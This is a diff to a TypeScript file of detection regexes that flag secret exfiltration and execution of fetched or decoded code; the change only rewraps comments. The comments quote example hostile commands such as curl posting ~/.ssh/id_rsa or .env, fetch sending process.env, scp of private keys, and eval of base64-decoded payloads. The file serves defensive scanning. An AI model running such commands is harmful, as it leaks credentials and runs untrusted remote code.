@@ -45,8 +45,8 @@ export const commandPatterns: readonly PatternRow[] = [
   ...rowsOf(exfiltration, {
     // curl -d "$(cat ~/.ssh/id_rsa)" https://…, curl -F f=@.env https://…, --data "$(env | base64)"
     [senders]: `${sender}${onLine}{0,300}?(?:(?:[=@<]|(?:(?<=\\s)-t|--upload-file|--post-file|--body-file)[= ]|\\$\\(\\s{0,3}(?:cat|base64|<)[^)\\n]{0,40}?|\`cat )\\s{0,3}["']?${secretFiles}|${dump})`,
-    // requests.post(url, data=open('~/.ssh/id_rsa')), fetch(url, { body:
-    // JSON.stringify(process.env) })
+    // requests.post(url, data=open('~/.ssh/id_rsa'))
+    // fetch(url, { body: JSON.stringify(process.env) })
     'requests.post|httpx.post|axios.post|fetch|urlopen|$.post': `(?:requests\\.post|httpx\\.post|axios\\.post|fetch|urlopen|\\$\\.post)\\s{0,3}\\((?:[^\\n]{0,300}?|[^;)]{0,300}?)(?:${secretFiles}|${dump})`,
     // scp ~/.ssh/id_rsa user@host:
     'scp |rsync |ftp |sftp ':
@@ -76,8 +76,8 @@ export const commandPatterns: readonly PatternRow[] = [
   ...rowsOf(
     { rule: 'run-fetched-code', message: 'evaluates fetched or decoded code' },
     {
-      // exec(requests.get(…).text), eval(base64.b64decode(…)), subprocess.run(['sh', '-c',
-      // requests.get(…).text])
+      // exec(requests.get(…).text), eval(base64.b64decode(…))
+      // subprocess.run(['sh', '-c', requests.get(…).text])
       'exec|eval|compile|os.|new |vm.|subprocess.': `${evaluating}\\s{0,4}\\(\\s{0,4}(?!\\))(?:[^;\\n]{0,120}?${fetching}\\s{0,4}\\(|[^;\\n]{0,60}?${decoding})|subprocess\\.\\w{1,16}\\(\\s{0,4}\\[?[^;\\n]{0,60}?(?:${fetching}|b64decode)\\s{0,4}\\(`,
       // An interpreter one-liner that fetches and evaluates, or runs the output of a command as its
       // program.
